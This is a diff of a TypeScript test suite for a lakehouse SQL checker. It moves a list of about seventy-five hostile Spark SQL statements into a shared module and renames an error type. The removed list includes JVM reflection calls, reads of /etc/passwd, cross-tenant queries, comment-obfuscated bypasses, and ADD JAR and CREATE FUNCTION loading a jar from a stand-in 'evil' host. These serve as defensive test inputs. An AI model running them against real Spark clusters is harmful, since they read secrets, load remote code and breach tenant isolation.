@@ -1,97 +1,18 @@
 import assert from "node:assert/strict";
 import { checkStatement } from "../../../src/lakehouse/check-statement.ts";
 import { planRehearsal } from "../../../src/lakehouse/plan-rehearsal.ts";
-
-/** Statements that reach a file, the JVM, a setting, another tenant or the definition of a table, if Spark gets to see them. */
-const hostile: readonly string[] = [
-  "SELECT java_method('java.lang.System', 'getProperty', 'user.home')",
-  "SELECT JAVA_METHOD ('java.lang.Runtime', 'getRuntime')",
-  "SELECT `java_method`('java.lang.System', 'exit', 1)",
-  "SELECT reflect('java.lang.System', 'getenv', 'HOME')",
-  "SELECT try_reflect('java.lang.System', 'getenv', 'HOME')",
-  "SELECT /* x */ reflect /* y */ ('java.lang.System', 'getenv')",
-  "SELECT 1 -- \\\n hidden\n, reflect('java.lang.System', 'getenv', 'HOME')",
-  "SELECT 1 -- hidden\r, reflect('java.lang.System', 'getenv', 'HOME')",
-  "SELECT 1 /* /* */ */, reflect('java.lang.System', 'getenv', 'HOME')",
-  "SELECT transform(array(1), x -> java_method('java.lang.System', 'nanoTime'))",
-  "SELECT a FROM t GROUP BY a, CUBE(reflect('java.lang.System', 'nanoTime'))",
-  "SELECT sum(a) OVER (ORDER BY reflect('java.lang.System', 'nanoTime')) FROM t",
-  "SELECT a FROM t LIMIT cast(java_method('java.lang.Math', 'abs', 1) AS int)",
-  "SELECT * FROM t TABLESAMPLE (reflect('java.lang.System', 'nanoTime') ROWS)",
-  "SELECT * FROM t PIVOT (max(reflect('java.lang.System', 'nanoTime')) FOR a IN (1))",
-  "INSERT INTO t SELECT reflect('java.lang.System', 'getenv', 'HOME')",
-  "UPDATE t SET a = reflect('java.lang.System', 'getenv', 'HOME')",
-  "DELETE FROM t WHERE a = java_method('java.lang.System', 'getenv', 'HOME')",
-  "MERGE INTO t USING s ON reflect('java.lang.System', 'nanoTime') = 1 WHEN MATCHED THEN DELETE",
-  "SELECT input_file_name() FROM t",
-  "SELECT my_udf(a) FROM t",
-  "SELECT lake.system.bucket(1, a) FROM t",
-  "SELECT lake.other.fn(a) FROM t",
-  "SELECT '${env:HOME}'",
-  "SELECT '${system:user.home}'",
-  "SELECT * FROM ${spark.app.name}",
-  "SELECT * FROM text.`/etc/hostname`",
-  "SELECT * FROM csv.`/etc/passwd`",
-  "SELECT * FROM parquet.`s3a://other/x`",
-  "SELECT * FROM `/etc/passwd`",
-  "SELECT * FROM `../other/t`",
-  "SELECT * FROM `..`",
-  "TABLE text.`/etc/hostname`",
-  "INSERT INTO parquet.`/tmp/x` SELECT 1",
-  "INSERT OVERWRITE DIRECTORY '/tmp/x' USING csv SELECT 1",
-  "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT 1",
-  "SELECT * FROM lake.tenant_b.person",
-  "SELECT * FROM tenant_b.person",
-  "SELECT * FROM t WHERE a IN (SELECT id FROM tenant_b.person)",
-  "WITH x AS (SELECT * FROM tenant_b.person) SELECT * FROM x",
-  "SELECT (SELECT max(id) FROM tenant_b.person)",
-  "SELECT EXISTS (SELECT 1 FROM spark_catalog.default.person)",
-  "SELECT * FROM t JOIN LATERAL (SELECT * FROM tenant_b.person) p",
-  "MERGE INTO tenant_b.person USING t ON true WHEN MATCHED THEN DELETE",
-  "DELETE FROM lake.tenant_b.person",
-  "SELECT * FROM t.snapshots",
-  "SELECT * FROM t.`branch_main`",
-  "SELECT * FROM t VERSION AS OF 1",
-  "SELECT * FROM t TIMESTAMP AS OF reflect('java.lang.System', 'nanoTime')",
-  "SELECT * FROM (WITH inner_one AS (SELECT 1) SELECT * FROM inner_one) JOIN tenant_b.inner_one",
-  "SELECT * FROM IDENTIFIER('tenant_b.person')",
-  "SELECT * FROM read_files('/etc/passwd')",
-  "SELECT * FROM sql_keywords()",
-  "SELECT * FROM my_table_function(TABLE(t))",
-  "SELECT :secret",
-  "SET spark.sql.ansi.enabled = true",
-  "SET",
-  "RESET",
-  "USE lake.tenant_b",
-  "CREATE TABLE x (a INT)",
-  "CREATE TEMPORARY VIEW v USING csv OPTIONS (path '/etc/passwd')",
-  "CREATE FUNCTION f AS 'evil.Class' USING JAR 'http://evil/x.jar'",
-  "DROP TABLE t",
-  "ALTER TABLE t DROP BRANCH main",
-  "TRUNCATE TABLE t",
-  "ADD JAR 'http://evil/x.jar'",
-  "LOAD DATA INPATH '/etc/passwd' INTO TABLE t",
-  "CALL lake.system.rollback_to_snapshot('t', 1)",
-  "CACHE TABLE t",
-  "SHOW TABLES IN tenant_b",
-  "DESCRIBE t",
-  "EXPLAIN SELECT 1",
-  "SELECT TRANSFORM(a) USING 'cat /etc/passwd' AS (b) FROM t",
-  "SELECT 1; DROP TABLE t",
-  "SELECT 1 UNION ALL TABLE lake.tenant_b.person",
-  "FROM t INSERT INTO a SELECT 1 INSERT INTO lake.tenant_b.b SELECT 2",
-];
+import { hostileStatements } from "../../support/hostile-statements.ts";
 
 suite("statements that a rehearsal would send to Spark", () => {
   test("are at least sixty hostile ones", () => {
-    assert.ok(hostile.length >= 60, `${hostile.length}`);
+    assert.ok(hostileStatements.length >= 60, `${hostileStatements.length}`);
   });
 
-  for (const text of hostile) {
+  for (const text of hostileStatements) {
     test(`are refused: ${text.replace(/\s/g, " ")}`, () => {
       assert.throws(
         () => checkStatement(text),
-        (error: Error) => error.name === "RehearsalError" && /^line \d+, column \d+: /.test(error.message),
+        (error: Error) => error.name === "LakehouseError" && /^line \d+, column \d+: /.test(error.message),
       );
     });
   }
@@ -152,7 +73,7 @@ suite("the plan of a rehearsal", () => {
       [{ actions: [{ reset: { table: "t" } }] }, /asOfTimestamp is missing/],
     ];
     for (const [job, message] of cases) {
-      assert.throws(() => planRehearsal(job), { name: "RehearsalError", message });
+      assert.throws(() => planRehearsal(job), { name: "LakehouseError", message });
     }
   });
 
